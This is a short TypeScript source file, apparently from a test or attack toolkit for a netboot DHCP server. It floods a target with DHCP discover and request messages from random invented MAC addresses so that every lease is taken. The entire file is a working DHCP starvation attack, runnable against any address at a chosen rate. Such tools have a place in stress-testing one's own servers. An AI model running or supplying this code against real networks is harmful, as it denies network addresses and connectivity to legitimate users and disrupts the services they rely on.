/** Invented machines take one lease after the other, until there are no more: `dhcp-leases.js TARGET NUMBER`, so many a second. */
import { randomBytes } from 'node:crypto'
import { dhcpPorts, dhcpQuestion, everybody, readDhcpAnswer } from '../../netboot/dhcp-client.js'
import { count, target, words } from '../client/attacker.js'
import { openSocket } from '../client/datagrams.js'

const [perS = '100'] = words
const [address = ''] = target.addresses
/** So many questions are remembered. */
const openMax = 4096
const macs = new Map<number, string>()

const receiver = openSocket('0.0.0.0', dhcpPorts.client)
const sender = openSocket(address, dhcpPorts.client)
receiver.on('message', (bytes) => {
  const answer = readDhcpAnswer(bytes)
  const mac = answer && macs.get(answer.xid)
  if (answer === undefined || mac === undefined) return
  count(answer.kind)
  if (answer.kind === 'offer') sender.send(dhcpQuestion(mac, answer.xid, answer), dhcpPorts.server, everybody)
})
sender.once('listening', () => {
  setInterval(() => {
    const xid = randomBytes(4).readUInt32BE(0)
    const mac = `52:54:00:${randomBytes(3)
      .toString('hex')
      .replace(/(..)(?=.)/g, '$1:')}`
    macs.set(xid, mac)
    for (const old of macs.keys()) {
      if (macs.size <= openMax) break
      macs.delete(old)
    }
    count('discover')
    sender.send(dhcpQuestion(mac, xid), dhcpPorts.server, everybody)
  }, 1000 / Number(perS))
})
